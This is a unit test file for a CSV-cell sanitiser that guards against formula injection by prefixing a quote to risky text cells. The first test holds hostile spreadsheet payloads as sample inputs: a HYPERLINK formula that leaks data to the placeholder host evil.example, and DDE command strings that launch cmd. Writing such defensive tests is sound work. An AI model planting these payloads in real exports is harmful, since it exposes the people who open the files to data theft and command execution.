/** safeCsvText (src/domain/csv-cell.ts): OWASP's rule for text cells, worked by hand. */
import { expect, it } from 'vitest';
import { safeCsvText } from '../../src/domain/csv-cell';

it('prefixes a single quote to text beginning with = + - @, a tab or a carriage return', () => {
  expect(safeCsvText('=HYPERLINK("http://evil.example/?leak","Malta")')).toBe(`'=HYPERLINK("http://evil.example/?leak","Malta")`);
  expect(safeCsvText("@SUM(1+1)*cmd|' /C calc'!A0")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
  expect(safeCsvText('+1+cmd|x')).toBe("'+1+cmd|x");
  expect(safeCsvText('-2+3+cmd|x')).toBe("'-2+3+cmd|x");
  expect(safeCsvText('\t=1')).toBe("'\t=1");
  expect(safeCsvText('\r=1')).toBe("'\r=1");
});

it('leaves other text and numbers written as text as they are', () => {
  expect(safeCsvText('Malta')).toBe('Malta');
  expect(safeCsvText('Cataluña (ES51)')).toBe('Cataluña (ES51)');
  expect(safeCsvText('a=b')).toBe('a=b');
  expect(safeCsvText('')).toBe('');
  expect(safeCsvText('-2.5')).toBe('-2.5');
  expect(safeCsvText('+3')).toBe('+3');
  expect(safeCsvText('-1e-5')).toBe('-1e-5');
  expect(safeCsvText('-.5')).toBe('-.5');
});
